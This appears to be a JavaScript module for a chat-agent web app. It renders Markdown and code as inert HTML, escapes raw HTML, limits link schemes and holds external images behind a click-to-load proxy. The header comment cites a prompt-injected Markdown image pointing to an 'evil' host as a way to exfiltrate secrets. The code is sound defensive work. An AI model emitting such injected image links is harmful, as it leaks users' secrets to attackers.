// Markdown and code as HTML that cannot run anything: raw HTML in the source is shown as
// text, links go only to http(s) and mailto, and code is highlighted by highlight.js. Images
// from another origin never load by themselves (a prompt-injected `![](https://evil/?d=secret)`
// would send the secret out): they show as a placeholder, loaded through our image proxy only
// when the user clicks it.
import { Marked } from "./vendor/marked.esm.js";
import hljs from "./vendor/highlight.min.js";
import { authedUrl, fetchBlob, sameOrigin } from "./api.js";

// Origins besides ours whose images load directly (the operator's public bucket): page.py says.
const TRUSTED = new Set((document.querySelector('meta[name="chat-agent-image-origins"]')?.content || "")
  .split(/\s+/).filter(Boolean));
const shown = new Map();  // URL -> blob: URL of an external image the user chose to see

function trusted(url) {
  if (/^(data|blob):/i.test(url)) return true;
  if (sameOrigin(url)) return true;
  try { return TRUSTED.has(new URL(url).origin); } catch { return false; }
}

function hostOf(url) {
  try { return new URL(url).host; } catch { return "another site"; }
}

/** HTML for an image at `url`: the image when it is ours, else a placeholder to click. */
export function imageHtml(url, alt = "") {
  const a = escapeHtml(alt);
  if (trusted(url)) return `<img src="${escapeHtml(authedUrl(url))}" alt="${a}">`;
  if (shown.has(url)) return `<img src="${shown.get(url)}" alt="${a}">`;
  return `<span class="external-image" data-src="${escapeHtml(url)}"><button type="button" class="load-image"` +
    ` title="${escapeHtml(url)}">Load image from ${escapeHtml(hostOf(url))}</button>` +
    (a ? `<span class="alt">${a}</span>` : "") + "</span>";
}

/** The same as an element. */
export function imageNode(url, alt = "") {
  const holder = document.createElement("span");
  holder.innerHTML = imageHtml(url, alt);
  return holder.firstElementChild;
}

// One listener for every placeholder, those drawn later included (replies redraw as they stream).
document.addEventListener("click", async (event) => {
  const button = event.target.closest?.(".external-image .load-image");
  if (!button) return;
  const holder = button.parentElement;
  const url = holder.dataset.src;
  button.disabled = true;
  button.textContent = "Loading…";
  try {
    if (!shown.has(url)) shown.set(url, URL.createObjectURL(await fetchBlob("/api/image-proxy?url=" + encodeURIComponent(url))));
    for (const node of document.querySelectorAll(".external-image")) {
      if (node.dataset.src === url) node.replaceWith(imageNode(url, node.querySelector(".alt")?.textContent || ""));
    }
  } catch (error) {
    button.textContent = error.message;
    holder.classList.add("failed");
  }
});

export function escapeHtml(text) {
  return String(text).replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" }[c]));
}

function safeHref(href) {
  try {
    const url = new URL(href, location.href);
    return ["http:", "https:", "mailto:"].includes(url.protocol) ? href : null;
  } catch { return null; }
}

export function highlightCode(code, language) {
  if (language && hljs.getLanguage(language)) {
    return hljs.highlight(code, { language, ignoreIllegals: true }).value;
  }
  return escapeHtml(code);
}

const marked = new Marked({
  gfm: true,
  breaks: false,
  renderer: {
    html({ text }) { return escapeHtml(text); },
    link({ href, title, tokens }) {
      const inner = this.parser.parseInline(tokens);
      const safe = safeHref(href);
      if (!safe) return inner;
      const t = title ? ` title="${escapeHtml(title)}"` : "";
      return `<a href="${escapeHtml(safe)}"${t} target="_blank" rel="noopener noreferrer">${inner}</a>`;
    },
    image({ href, text }) {
      const safe = safeHref(href);
      return safe && !/^mailto:/i.test(safe) ? imageHtml(safe, text) : escapeHtml(text);
    },
    code({ text, lang }) {
      const language = (lang || "").split(/\s/)[0];
      return `<pre><code class="hljs">${highlightCode(text, language)}</code></pre>`;
    },
  },
});

export function renderMarkdown(source) {
  return marked.parse(source || "");
}
